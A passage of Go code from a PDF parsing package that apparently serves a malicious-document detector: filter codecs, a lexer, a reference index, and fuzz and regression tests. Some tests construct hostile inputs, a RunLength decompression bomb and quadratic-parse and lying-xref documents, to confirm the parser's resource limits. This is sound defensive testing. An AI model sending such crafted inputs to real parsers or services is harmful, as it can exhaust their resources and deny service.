	// TrailerRefs are objects referenced directly from the trailer.
	TrailerRefs []int
}

// BuildReferenceIndex scans all objects (and the trailer) once.
func (d *Document) BuildReferenceIndex() *ReferenceIndex {
	idx := &ReferenceIndex{
		Parents:  make(map[int][]int, len(d.objects)),
		Children: make(map[int][]int, len(d.objects)),
	}
	for _, num := range d.Numbers() {
		obj := d.objects[num]
		for _, ref := range refsIn(obj.Object, nil) {
			idx.Children[num] = append(idx.Children[num], ref.Num)
			idx.Parents[ref.Num] = append(idx.Parents[ref.Num], num)
		}
	}
	if d.Trailer != nil {
		for _, ref := range refsIn(d.Trailer, nil) {
			idx.TrailerRefs = append(idx.TrailerRefs, ref.Num)
		}
	}
	return idx
}
