package pdf

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"io"
)

// Filter names supported by the codec layer.
const (
	FilterFlate     Name = "FlateDecode"
	FilterASCIIHex  Name = "ASCIIHexDecode"
	FilterASCII85   Name = "ASCII85Decode"
	FilterRunLength Name = "RunLengthDecode"
	FilterLZW       Name = "LZWDecode"
)

// ErrFilter is wrapped by all filter codec errors.
var ErrFilter = errors.New("pdf filter error")

// maxDecodedSize bounds decompression output to defend against zip bombs in
// hostile documents (the front-end runs on untrusted input by design).
const maxDecodedSize = 256 << 20

// Decode applies a single named filter in the decode direction.
func Decode(filter Name, data []byte) ([]byte, error) {
	switch filter {
	case FilterFlate:
		return flateDecode(data)
	case FilterASCIIHex:
		return asciiHexDecode(data)
	case FilterASCII85:
		return ascii85Decode(data)
	case FilterRunLength:
		return runLengthDecode(data)
	case FilterLZW:
		return lzwDecode(data)
	default:
		return nil, fmt.Errorf("%w: unsupported filter %q", ErrFilter, filter)
	}
}

// Encode applies a single named filter in the encode direction.
func Encode(filter Name, data []byte) ([]byte, error) {
	switch filter {
	case FilterFlate:
		return flateEncode(data)
	case FilterASCIIHex:
		return asciiHexEncode(data)
	case FilterASCII85:
		return ascii85Encode(data)
	case FilterRunLength:
		return runLengthEncode(data)
	case FilterLZW:
		return lzwEncode(data)
	default:
		return nil, fmt.Errorf("%w: unsupported filter %q", ErrFilter, filter)
	}
}

// maxFilterChain bounds the declared /Filter chain length honoured by
// DecodeChain. Real documents use at most a handful of levels; a crafted
// document declaring thousands of expanding filters would otherwise buy
// amplification work with a few bytes of dictionary.
const maxFilterChain = 32

// DecodeChain runs the full declared filter chain of a stream and returns the
// fully decoded bytes along with the number of filter levels applied. The
// level count feeds static feature F5 (levels of encoding).
func DecodeChain(s *Stream) (data []byte, levels int, err error) {
	data = s.Raw
	filters := s.Filters()
	if len(filters) > maxFilterChain {
		return nil, 0, fmt.Errorf("%w: filter chain of %d levels exceeds %d", ErrFilter, len(filters), maxFilterChain)
	}
	for _, f := range filters {
		data, err = Decode(f, data)
		if err != nil {
			return nil, levels, fmt.Errorf("decode %s (level %d): %w", f, levels+1, err)
		}
		levels++
	}
	return data, levels, nil
}

// EncodeChain encodes data with the given filter chain (outermost-declared
// first, i.e. the reverse application order of DecodeChain) and returns the
// raw stream bytes plus the /Filter object to declare.
func EncodeChain(filters []Name, data []byte) (raw []byte, filterObj Object, err error) {
	raw = data
	for i := len(filters) - 1; i >= 0; i-- {
		raw, err = Encode(filters[i], raw)
		if err != nil {
			return nil, nil, fmt.Errorf("encode %s: %w", filters[i], err)
		}
	}
	switch len(filters) {
	case 0:
		return raw, nil, nil
	case 1:
		return raw, filters[0], nil
	default:
		arr := make(Array, len(filters))
		for i, f := range filters {
			arr[i] = f
		}
		return raw, arr, nil
	}
}

func flateDecode(data []byte) ([]byte, error) {
	r, err := getZlibReader(bytes.NewReader(data))
	if err != nil {
		return nil, fmt.Errorf("%w: flate: %v", ErrFilter, err)
	}
	defer putZlibReader(r)
	buf := getBuf()
	defer putBuf(buf)
	_, err = buf.ReadFrom(io.LimitReader(r, maxDecodedSize+1))
	if err != nil && !errors.Is(err, io.ErrUnexpectedEOF) {
		return nil, fmt.Errorf("%w: flate: %v", ErrFilter, err)
	}
	if buf.Len() > maxDecodedSize {
		return nil, fmt.Errorf("%w: flate output exceeds %d bytes", ErrFilter, maxDecodedSize)
	}
	return copyBytes(buf), nil
}

func flateEncode(data []byte) ([]byte, error) {
	buf := getBuf()
	defer putBuf(buf)
	w := zlibWriterPool.Get().(*zlib.Writer)
	defer zlibWriterPool.Put(w)
	w.Reset(buf)
	if _, err := w.Write(data); err != nil {
		return nil, fmt.Errorf("%w: flate encode: %v", ErrFilter, err)
	}
	if err := w.Close(); err != nil {
		return nil, fmt.Errorf("%w: flate encode: %v", ErrFilter, err)
	}
	return copyBytes(buf), nil
}

func asciiHexDecode(data []byte) ([]byte, error) {
	out := make([]byte, 0, len(data)/2)
	var hi byte
	var haveHi bool
	for i := 0; i < len(data); i++ {
		c := data[i]
		if c == '>' {
			break
		}
		if isWhitespace(c) {
			continue
		}
		v, ok := hexVal(c)
		if !ok {
			return nil, fmt.Errorf("%w: ascii hex: bad digit %q at %d", ErrFilter, c, i)
		}
		if haveHi {
			out = append(out, hi<<4|v)
			haveHi = false
		} else {
			hi = v
			haveHi = true
		}
	}
	if haveHi {
		out = append(out, hi<<4)
	}
	return out, nil
}

func asciiHexEncode(data []byte) ([]byte, error) {
	const hexdig = "0123456789ABCDEF"
	out := make([]byte, 0, len(data)*2+1)
	for _, c := range data {
		out = append(out, hexdig[c>>4], hexdig[c&0xf])
	}
	out = append(out, '>')
	return out, nil
}

func ascii85Decode(data []byte) ([]byte, error) {
	out := make([]byte, 0, len(data)*4/5)
	var group [5]byte
	n := 0
	for i := 0; i < len(data); i++ {
		c := data[i]
		if isWhitespace(c) {
			continue
		}
		if c == '~' {
			// "~>" EOD marker.
			break
		}
		if c == 'z' && n == 0 {
			out = append(out, 0, 0, 0, 0)
			continue
		}
		if c < '!' || c > 'u' {
			return nil, fmt.Errorf("%w: ascii85: bad char %q at %d", ErrFilter, c, i)
		}
		group[n] = c - '!'
		n++
		if n == 5 {
			v := uint32(0)
			for _, g := range group {
				v = v*85 + uint32(g)
			}
			out = append(out, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
			n = 0
		}
	}
	if n > 0 {
		if n == 1 {
			return nil, fmt.Errorf("%w: ascii85: single trailing digit", ErrFilter)
		}
		// Pad with 'u' (84) and keep n-1 output bytes.
		for i := n; i < 5; i++ {
			group[i] = 84
		}
		v := uint32(0)
		for _, g := range group {
			v = v*85 + uint32(g)
		}
		full := [4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
		out = append(out, full[:n-1]...)
	}
	return out, nil
}

func ascii85Encode(data []byte) ([]byte, error) {
	out := make([]byte, 0, len(data)*5/4+2)
	i := 0
	for ; i+4 <= len(data); i += 4 {
		v := uint32(data[i])<<24 | uint32(data[i+1])<<16 | uint32(data[i+2])<<8 | uint32(data[i+3])
		if v == 0 {
			out = append(out, 'z')
			continue
		}
		var grp [5]byte
		for j := 4; j >= 0; j-- {
			grp[j] = byte(v%85) + '!'
			v /= 85
		}
		out = append(out, grp[:]...)
	}
	if rem := len(data) - i; rem > 0 {
		var last [4]byte
		copy(last[:], data[i:])
		v := uint32(last[0])<<24 | uint32(last[1])<<16 | uint32(last[2])<<8 | uint32(last[3])
		var grp [5]byte
		for j := 4; j >= 0; j-- {
			grp[j] = byte(v%85) + '!'
			v /= 85
		}
		out = append(out, grp[:rem+1]...)
	}
	out = append(out, '~', '>')
	return out, nil
}

func runLengthDecode(data []byte) ([]byte, error) {
	out := make([]byte, 0, len(data))
	for i := 0; i < len(data); {
		l := data[i]
		i++
		switch {
		case l == 128:
			return out, nil // EOD
		case l < 128:
			n := int(l) + 1
			if i+n > len(data) {
				return nil, fmt.Errorf("%w: runlength: truncated literal run", ErrFilter)
			}
			out = append(out, data[i:i+n]...)
			i += n
		default:
			if i >= len(data) {
				return nil, fmt.Errorf("%w: runlength: truncated repeat run", ErrFilter)
			}
			n := 257 - int(l)
			for j := 0; j < n; j++ {
				out = append(out, data[i])
			}
			i++
		}
		// Repeat runs expand 2 input bytes into up to 128 output bytes, so
		// chained RunLength levels amplify geometrically without a cap.
		if len(out) > maxDecodedSize {
			return nil, fmt.Errorf("%w: runlength output exceeds %d bytes", ErrFilter, maxDecodedSize)
		}
	}
	return out, nil
}

func runLengthEncode(data []byte) ([]byte, error) {
	out := make([]byte, 0, len(data)+len(data)/128+2)
	i := 0
	for i < len(data) {
		// Find a repeat run.
		j := i + 1
		for j < len(data) && j-i < 128 && data[j] == data[i] {
			j++
		}
		if j-i >= 2 {
			out = append(out, byte(257-(j-i)), data[i])
			i = j
			continue
		}
		// Literal run until the next repeat of length >= 3 or 128 bytes.
		start := i
		for i < len(data) && i-start < 128 {
			if i+2 < len(data) && data[i] == data[i+1] && data[i] == data[i+2] {
				break
			}
			i++
		}
		out = append(out, byte(i-start-1))
		out = append(out, data[start:i]...)
	}
	out = append(out, 128)
	return out, nil
}
