package pdf

import (
	"bytes"
	"testing"
	"testing/quick"
)

var allFilters = []Name{FilterFlate, FilterASCIIHex, FilterASCII85, FilterRunLength, FilterLZW}

func TestFilterRoundTripFixed(t *testing.T) {
	samples := [][]byte{
		nil,
		[]byte(""),
		[]byte("a"),
		[]byte("hello world"),
		bytes.Repeat([]byte{0}, 1000),
		bytes.Repeat([]byte("ab"), 500),
		[]byte{0xff, 0x00, 0x80, 0x7f, 0x01},
		bytes.Repeat([]byte("the quick brown fox jumps over the lazy dog "), 100),
	}
	for _, f := range allFilters {
		for i, s := range samples {
			enc, err := Encode(f, s)
			if err != nil {
				t.Fatalf("%s sample %d: encode: %v", f, i, err)
			}
			dec, err := Decode(f, enc)
			if err != nil {
				t.Fatalf("%s sample %d: decode: %v", f, i, err)
			}
			if !bytes.Equal(dec, s) {
				t.Errorf("%s sample %d: round trip mismatch (got %d bytes, want %d)", f, i, len(dec), len(s))
			}
		}
	}
}

func TestFilterRoundTripProperty(t *testing.T) {
	for _, f := range allFilters {
		f := f
		t.Run(string(f), func(t *testing.T) {
			prop := func(data []byte) bool {
				enc, err := Encode(f, data)
				if err != nil {
					return false
				}
				dec, err := Decode(f, enc)
				if err != nil {
					return false
				}
				return bytes.Equal(dec, data)
			}
			if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestLZWLongRepetitive(t *testing.T) {
	// Force table growth through several width changes and a reset.
	var data []byte
	for i := 0; i < 40000; i++ {
		data = append(data, byte(i%251), byte(i%7))
	}
	enc, err := Encode(FilterLZW, data)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := Decode(FilterLZW, enc)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dec, data) {
		t.Fatal("LZW long round trip mismatch")
	}
	if len(enc) >= len(data) {
		t.Logf("LZW did not compress: %d -> %d", len(data), len(enc))
	}
}

func TestDecodeChainMultiLevel(t *testing.T) {
	payload := []byte("app.alert('hi'); // script body")
	filters := []Name{FilterASCIIHex, FilterFlate, FilterRunLength}
	raw, filterObj, err := EncodeChain(filters, payload)
	if err != nil {
		t.Fatal(err)
	}
	s := &Stream{Dict: Dict{"Filter": filterObj}, Raw: raw}
	dec, levels, err := DecodeChain(s)
	if err != nil {
		t.Fatal(err)
	}
	if levels != 3 {
		t.Errorf("levels = %d, want 3", levels)
	}
	if !bytes.Equal(dec, payload) {
		t.Errorf("decoded = %q, want %q", dec, payload)
	}
}

func TestDecodeChainSingleFilterNameForm(t *testing.T) {
	raw, filterObj, err := EncodeChain([]Name{FilterFlate}, []byte("data"))
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := filterObj.(Name); !ok {
		t.Fatalf("single filter should declare a Name, got %T", filterObj)
	}
	s := &Stream{Dict: Dict{"Filter": filterObj}, Raw: raw}
	dec, levels, err := DecodeChain(s)
	if err != nil {
		t.Fatal(err)
	}
	if levels != 1 || string(dec) != "data" {
		t.Errorf("levels=%d dec=%q", levels, dec)
	}
}

func TestDecodeChainNoFilter(t *testing.T) {
	s := &Stream{Dict: Dict{}, Raw: []byte("plain")}
	dec, levels, err := DecodeChain(s)
	if err != nil {
		t.Fatal(err)
	}
	if levels != 0 || string(dec) != "plain" {
		t.Errorf("levels=%d dec=%q", levels, dec)
	}
}

func TestDecodeUnknownFilter(t *testing.T) {
	if _, err := Decode("DCTDecode", []byte{1}); err == nil {
		t.Error("expected error for unsupported filter")
	}
	if _, err := Encode("Bogus", []byte{1}); err == nil {
		t.Error("expected error for unsupported encode filter")
	}
}

func TestRunLengthMalformed(t *testing.T) {
	// Literal run that claims more bytes than available.
	if _, err := Decode(FilterRunLength, []byte{10, 'a'}); err == nil {
		t.Error("expected truncated literal error")
	}
	// Repeat run with no byte.
	if _, err := Decode(FilterRunLength, []byte{200}); err == nil {
		t.Error("expected truncated repeat error")
	}
}

func TestASCII85ZShortcut(t *testing.T) {
	enc, err := Encode(FilterASCII85, []byte{0, 0, 0, 0, 'x'})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(enc, []byte{'z'}) {
		t.Errorf("expected z shortcut in %q", enc)
	}
	dec, err := Decode(FilterASCII85, enc)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dec, []byte{0, 0, 0, 0, 'x'}) {
		t.Errorf("decoded %v", dec)
	}
}

func TestFlateDecodeGarbage(t *testing.T) {
	if _, err := Decode(FilterFlate, []byte("definitely not zlib")); err == nil {
		t.Error("expected error decoding garbage flate data")
	}
}
