package pdf

import (
	"bytes"
	"testing"
	"time"
)

// fuzzParseSeeds are hand-picked documents spanning the parser's branches:
// clean xref documents, hostile /Length lies, hex-escaped names, broken
// xref chains that force the scavenger, and nested-structure stress.
var fuzzParseSeeds = [][]byte{
	// Minimal well-formed document with a real xref table.
	[]byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" +
		"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" +
		"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000062 00000 n \n" +
		"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n113\n%%EOF\n"),
	// Stream whose /Length lies; parser must fall back to endstream search.
	[]byte("%PDF-1.7\n1 0 obj\n<< /Length 99999 >>\nstream\nhello world\nendstream\nendobj\n" +
		"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"),
	// Hex-escaped names and a Javascript holder (exercises chain walk).
	[]byte("%PDF-1.5\n1 0 obj\n<< /#54ype /#43atalog /OpenAction 2 0 R >>\nendobj\n" +
		"2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\);) >>\nendobj\n%%EOF\n"),
	// Broken startxref offset: forces the lenient scavenger path.
	[]byte("%PDF-1.3\n3 0 obj\n[ 1 2.5 (str) <414243> /Nm true false null ]\nendobj\n" +
		"startxref\n424242\n%%EOF\n"),
	// Nested dictionaries and arrays near the depth limit.
	[]byte("%PDF-1.4\n1 0 obj\n<< /A [ [ [ << /B [ (x) ] >> ] ] ] >>\nendobj\n"),
	// Object stream style body plus comments and odd whitespace.
	[]byte("%PDF-1.6\r\n%\xe2\xe3\xcf\xd3\r\n1 0 obj\r<< /K 2 0 R >>\rendobj\r" +
		"2 0 obj\r(literal \\163tring \\( nested \\))\rendobj\r"),
	// Empty / header-only inputs.
	[]byte("%PDF-"),
	[]byte(""),
}

// FuzzParse throws arbitrary bytes at the full-document parser, in both
// lenient and strict modes, then walks every downstream consumer a hostile
// document can reach: chain reconstruction, filter-chain decoding, the
// reference index, and re-serialization. The invariant under test is "no
// panic, no hang" — errors are expected and fine.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzParseSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<20 {
			return
		}
		_, _ = Parse(data, ParseOptions{Strict: true})
		doc, err := Parse(data, ParseOptions{})
		if err != nil {
			return
		}
		// Everything below runs on attacker-derived structure.
		_, _ = ReconstructChains(doc)
		doc.BuildReferenceIndex()
		doc.CountEmptyObjects()
		for _, num := range doc.Numbers() {
			obj, _ := doc.Get(num)
			if s, ok := obj.Object.(*Stream); ok {
				_, _, _ = DecodeChain(s)
			}
			_ = FormatObject(obj.Object)
		}
		if _, err := Write(doc, WriteOptions{}); err != nil {
			t.Skipf("rewrite failed: %v", err)
		}
	})
}

// fuzzFilterNames indexes the decoder under test by the fuzzer's selector
// byte; keep order stable so corpus entries stay meaningful.
var fuzzFilterNames = []Name{
	FilterFlate, FilterASCIIHex, FilterASCII85, FilterRunLength, FilterLZW,
}

// FuzzFilters drives each stream decoder with arbitrary input and checks the
// encode->decode round trip for whichever codec the selector picks. It also
// decodes a two-level chain (the paper's F5 feature counts chained filters,
// so chains are a first-class attack surface).
func FuzzFilters(f *testing.F) {
	f.Add([]byte("x\x9c\xcbH\xcd\xc9\xc9\x07\x00\x06,\x02\x15"), byte(0)) // zlib "hello"
	f.Add([]byte("48656C6C6F>"), byte(1))
	f.Add([]byte("87cUR;Ei~>"), byte(2))
	f.Add([]byte("\x04hello\x80"), byte(3))
	f.Add([]byte("\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01"), byte(4)) // LZW
	f.Add([]byte("\xff\xff\xff\xff"), byte(4))
	f.Add([]byte(""), byte(2))
	f.Fuzz(func(t *testing.T, data []byte, sel byte) {
		// 32 KB keeps the worst bounded expansion (~1000x for flate) around
		// 32 MB so the fuzzer's throughput stays useful.
		if len(data) > 32<<10 {
			return
		}
		filter := fuzzFilterNames[int(sel)%len(fuzzFilterNames)]
		// The 2s tripwires below turn complexity regressions into loud
		// failures: Go's fuzzer has no hang detector, so a quadratic decoder
		// would otherwise present as a silent throughput stall. Bounded
		// worst cases today (32 KB input, ~32 MB flate expansion) sit far
		// under the limit.
		watchStart := time.Now()
		_, _ = Decode(filter, data)
		if d := time.Since(watchStart); d > 2*time.Second {
			t.Fatalf("slow decode %s: %v for %d bytes", filter, d, len(data))
		}

		// Round trip: encoding is total, and decode(encode(x)) == x.
		enc, err := Encode(filter, data)
		if err != nil {
			t.Fatalf("encode %s: %v", filter, err)
		}
		dec, err := Decode(filter, enc)
		if err != nil {
			t.Fatalf("decode %s after encode: %v", filter, err)
		}
		if !bytes.Equal(dec, data) {
			t.Fatalf("%s round trip mismatch: %d bytes in, %d bytes out", filter, len(data), len(dec))
		}

		// Chain decode through a second filter layer on the raw input.
		second := fuzzFilterNames[(int(sel)+1)%len(fuzzFilterNames)]
		s := &Stream{
			Dict: Dict{"Filter": Array{filter, second}},
			Raw:  data,
		}
		watchStart = time.Now()
		_, _, _ = DecodeChain(s)
		if d := time.Since(watchStart); d > 2*time.Second {
			t.Fatalf("slow chain %s+%s: %v for %d bytes", filter, second, d, len(data))
		}
	})
}
