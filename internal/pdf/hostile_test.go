package pdf

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestScavengeQuadraticBounded is the regression test for the parser's
// work-budget fix: overlapping unterminated objects used to make every
// scavenged `obj` marker re-scan to end of input, O(n²) over
// attacker-controlled size (~18s at 360 KB before the fix, milliseconds
// after). The 5s ceiling is a ~250x margin over the fixed cost, so the test
// only fires if the quadratic behaviour comes back.
func TestScavengeQuadraticBounded(t *testing.T) {
	hostile := bytes.Repeat([]byte("1 0 obj ("), 40000) // 360 KB

	start := time.Now()
	_, _ = Parse(hostile, ParseOptions{})
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("lenient parse of quadratic-scavenge input took %v", d)
	}

	// Same exposure through a lying xref table full of offsets into the
	// overlapping-string region.
	var doc strings.Builder
	doc.WriteString("%PDF-1.4\n")
	doc.Write(bytes.Repeat([]byte("2 0 obj ("), 20000))
	xrefAt := doc.Len() + 1
	doc.WriteString("\nxref\n0 2000\n0000000000 65535 f \n")
	for i := 1; i < 2000; i++ {
		fmt.Fprintf(&doc, "%010d 00000 n \n", 9+(i%64))
	}
	doc.WriteString("trailer\n<< /Size 2000 /Root 1 0 R >>\nstartxref\n")
	fmt.Fprintf(&doc, "%d\n%%%%EOF\n", xrefAt)

	start = time.Now()
	_, _ = Parse([]byte(doc.String()), ParseOptions{})
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("parse of hostile xref offsets took %v", d)
	}
}

// TestRunLengthDecodeCapped pins the zip-bomb fix: RunLength repeat runs
// expand 2 input bytes into up to 128 output bytes, and the decoder used to
// have no output cap at all.
func TestRunLengthDecodeCapped(t *testing.T) {
	pairs := maxDecodedSize/128 + 1 // decodes to just over the cap
	bomb := bytes.Repeat([]byte{0x81, 0x00}, pairs)
	_, err := Decode(FilterRunLength, bomb)
	if !errors.Is(err, ErrFilter) {
		t.Fatalf("oversized runlength decode: err = %v, want ErrFilter", err)
	}
}

// TestDecodeChainLengthCapped pins the declared-chain bound: thousands of
// stacked expanding filters would otherwise buy geometric amplification with
// a few bytes of dictionary.
func TestDecodeChainLengthCapped(t *testing.T) {
	over := make(Array, maxFilterChain+1)
	for i := range over {
		over[i] = FilterRunLength
	}
	s := &Stream{Dict: Dict{"Filter": over}, Raw: []byte{0x81, 0x00}}
	_, _, err := DecodeChain(s)
	if !errors.Is(err, ErrFilter) {
		t.Fatalf("overlong chain: err = %v, want ErrFilter", err)
	}

	// A chain exactly at the cap is still honoured. RunLength is roughly
	// size-preserving in the encode direction (hex/85 would double or grow
	// the payload per level, exponential over 32 levels), so stack
	// maxFilterChain RunLength layers and decode back to the plain byte.
	at := make(Array, maxFilterChain)
	for i := range at {
		at[i] = FilterRunLength
	}
	data := []byte("A")
	for i := 0; i < maxFilterChain; i++ {
		enc, err := Encode(FilterRunLength, data)
		if err != nil {
			t.Fatalf("encode level %d: %v", i, err)
		}
		data = enc
	}
	s = &Stream{Dict: Dict{"Filter": at}, Raw: data}
	out, levels, err := DecodeChain(s)
	if err != nil || levels != maxFilterChain || string(out) != "A" {
		t.Fatalf("chain at cap: out=%q levels=%d err=%v", out, levels, err)
	}
}
