package pdf

import (
	"errors"
	"fmt"
)

// TokenType enumerates lexical token kinds produced by the Lexer.
type TokenType int

// Token kinds.
const (
	TokEOF TokenType = iota + 1
	TokInteger
	TokReal
	TokString  // literal or hex string
	TokName    // name, Value holds decoded body, HadHex set for #xx escapes
	TokKeyword // obj, endobj, stream, endstream, R, true, false, null, xref, trailer, startxref, f, n
	TokArrayOpen
	TokArrayClose
	TokDictOpen
	TokDictClose
)

// Token is one lexical token.
type Token struct {
	Type   TokenType
	Pos    int     // byte offset of the first character
	Int    int64   // for TokInteger
	Real   float64 // for TokReal
	Bytes  []byte  // decoded string bytes for TokString, keyword text for TokKeyword
	Name   string  // decoded name for TokName
	HadHex bool    // TokName: used #xx escapes; TokString: was hex syntax
}

// ErrLex is wrapped by all lexer errors.
var ErrLex = errors.New("pdf lex error")

// Lexer tokenizes PDF syntax from a byte slice. The zero value is not usable;
// construct with NewLexer.
type Lexer struct {
	src []byte
	pos int

	// HexNameCount counts names lexed with #xx escapes, feeding static
	// feature F3.
	HexNameCount int
}

// NewLexer returns a lexer over src starting at offset.
func NewLexer(src []byte, offset int) *Lexer {
	return &Lexer{src: src, pos: offset}
}

// Pos returns the current byte offset.
func (l *Lexer) Pos() int { return l.pos }

// SetPos repositions the lexer.
func (l *Lexer) SetPos(pos int) {
	if pos < 0 {
		pos = 0
	}
	if pos > len(l.src) {
		pos = len(l.src)
	}
	l.pos = pos
}

// Src exposes the underlying buffer (shared, do not mutate).
func (l *Lexer) Src() []byte { return l.src }

func (l *Lexer) peek() (byte, bool) {
	if l.pos >= len(l.src) {
		return 0, false
	}
	return l.src[l.pos], true
}

// skipWS consumes whitespace and comments.
func (l *Lexer) skipWS() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case isWhitespace(c):
			l.pos++
		case c == '%':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' && l.src[l.pos] != '\r' {
				l.pos++
			}
		default:
			return
		}
	}
}

// Next returns the next token.
func (l *Lexer) Next() (Token, error) {
	l.skipWS()
	start := l.pos
	c, ok := l.peek()
	if !ok {
		return Token{Type: TokEOF, Pos: start}, nil
	}
	switch {
	case c == '[':
		l.pos++
		return Token{Type: TokArrayOpen, Pos: start}, nil
	case c == ']':
		l.pos++
		return Token{Type: TokArrayClose, Pos: start}, nil
	case c == '<':
		if l.pos+1 < len(l.src) && l.src[l.pos+1] == '<' {
			l.pos += 2
			return Token{Type: TokDictOpen, Pos: start}, nil
		}
		return l.lexHexString()
	case c == '>':
		if l.pos+1 < len(l.src) && l.src[l.pos+1] == '>' {
			l.pos += 2
			return Token{Type: TokDictClose, Pos: start}, nil
		}
		return Token{}, fmt.Errorf("%w: stray '>' at %d", ErrLex, start)
	case c == '(':
		return l.lexLiteralString()
	case c == '/':
		return l.lexName()
	case c == '+' || c == '-' || c == '.' || (c >= '0' && c <= '9'):
		return l.lexNumber()
	case isRegular(c):
		return l.lexKeyword()
	default:
		return Token{}, fmt.Errorf("%w: unexpected byte %#x at %d", ErrLex, c, start)
	}
}

func (l *Lexer) lexName() (Token, error) {
	start := l.pos
	l.pos++ // consume '/'
	begin := l.pos
	for l.pos < len(l.src) && isRegular(l.src[l.pos]) {
		l.pos++
	}
	decoded, hadHex := DecodeName(l.src[begin:l.pos])
	if hadHex {
		l.HexNameCount++
	}
	return Token{Type: TokName, Pos: start, Name: decoded, HadHex: hadHex}, nil
}

func (l *Lexer) lexKeyword() (Token, error) {
	start := l.pos
	for l.pos < len(l.src) && isRegular(l.src[l.pos]) {
		l.pos++
	}
	return Token{Type: TokKeyword, Pos: start, Bytes: l.src[start:l.pos]}, nil
}

func (l *Lexer) lexNumber() (Token, error) {
	start := l.pos
	sawDot := false
	if c := l.src[l.pos]; c == '+' || c == '-' {
		l.pos++
	}
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '.' {
			if sawDot {
				break
			}
			sawDot = true
			l.pos++
			continue
		}
		if c < '0' || c > '9' {
			break
		}
		l.pos++
	}
	text := string(l.src[start:l.pos])
	if text == "" || text == "+" || text == "-" || text == "." {
		return Token{}, fmt.Errorf("%w: malformed number at %d", ErrLex, start)
	}
	if sawDot {
		f, err := parseFloat(text)
		if err != nil {
			return Token{}, fmt.Errorf("%w: %v", ErrLex, err)
		}
		return Token{Type: TokReal, Pos: start, Real: f}, nil
	}
	n, err := parseInt(text)
	if err != nil {
		return Token{}, fmt.Errorf("%w: %v", ErrLex, err)
	}
	return Token{Type: TokInteger, Pos: start, Int: n}, nil
}

func parseInt(s string) (int64, error) {
	var neg bool
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		neg = s[i] == '-'
		i++
	}
	var n int64
	for ; i < len(s); i++ {
		n = n*10 + int64(s[i]-'0')
	}
	if neg {
		n = -n
	}
	return n, nil
}

func parseFloat(s string) (float64, error) {
	var neg bool
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		neg = s[i] == '-'
		i++
	}
	var whole, frac float64
	var fracDiv float64 = 1
	inFrac := false
	for ; i < len(s); i++ {
		c := s[i]
		if c == '.' {
			inFrac = true
			continue
		}
		d := float64(c - '0')
		if inFrac {
			fracDiv *= 10
			frac = frac*10 + d
		} else {
			whole = whole*10 + d
		}
	}
	f := whole + frac/fracDiv
	if neg {
		f = -f
	}
	return f, nil
}

func (l *Lexer) lexHexString() (Token, error) {
	start := l.pos
	l.pos++ // consume '<'
	out := make([]byte, 0, 16)
	var hi byte
	var haveHi bool
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '>' {
			l.pos++
			if haveHi {
				out = append(out, hi<<4) // odd final digit: low nibble 0
			}
			return Token{Type: TokString, Pos: start, Bytes: out, HadHex: true}, nil
		}
		if isWhitespace(c) {
			l.pos++
			continue
		}
		v, ok := hexVal(c)
		if !ok {
			return Token{}, fmt.Errorf("%w: bad hex digit %q at %d", ErrLex, c, l.pos)
		}
		if haveHi {
			out = append(out, hi<<4|v)
			haveHi = false
		} else {
			hi = v
			haveHi = true
		}
		l.pos++
	}
	return Token{}, fmt.Errorf("%w: unterminated hex string at %d", ErrLex, start)
}

func (l *Lexer) lexLiteralString() (Token, error) {
	start := l.pos
	// Fast path: a string with no escapes and no nested parens needs no
	// decoding — alias the source subslice instead of building a copy
	// (Token.Bytes is read-only by convention, like TokKeyword tokens).
	for i := l.pos + 1; i < len(l.src); i++ {
		c := l.src[i]
		if c == '\\' || c == '(' {
			break
		}
		if c == ')' {
			tok := Token{Type: TokString, Pos: start, Bytes: l.src[l.pos+1 : i]}
			l.pos = i + 1
			return tok, nil
		}
	}
	l.pos = start
	l.pos++ // consume '('
	out := make([]byte, 0, 16)
	depth := 1
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch c {
		case '\\':
			l.pos++
			if l.pos >= len(l.src) {
				return Token{}, fmt.Errorf("%w: dangling backslash at %d", ErrLex, l.pos)
			}
			e := l.src[l.pos]
			switch e {
			case 'n':
				out = append(out, '\n')
				l.pos++
			case 'r':
				out = append(out, '\r')
				l.pos++
			case 't':
				out = append(out, '\t')
				l.pos++
			case 'b':
				out = append(out, '\b')
				l.pos++
			case 'f':
				out = append(out, '\f')
				l.pos++
			case '(', ')', '\\':
				out = append(out, e)
				l.pos++
			case '\r':
				// Line continuation; swallow optional \n.
				l.pos++
				if l.pos < len(l.src) && l.src[l.pos] == '\n' {
					l.pos++
				}
			case '\n':
				l.pos++
			default:
				if e >= '0' && e <= '7' {
					// Up to three octal digits.
					v := 0
					for n := 0; n < 3 && l.pos < len(l.src); n++ {
						d := l.src[l.pos]
						if d < '0' || d > '7' {
							break
						}
						v = v*8 + int(d-'0')
						l.pos++
					}
					out = append(out, byte(v))
				} else {
					// Unknown escape: backslash is dropped per spec.
					out = append(out, e)
					l.pos++
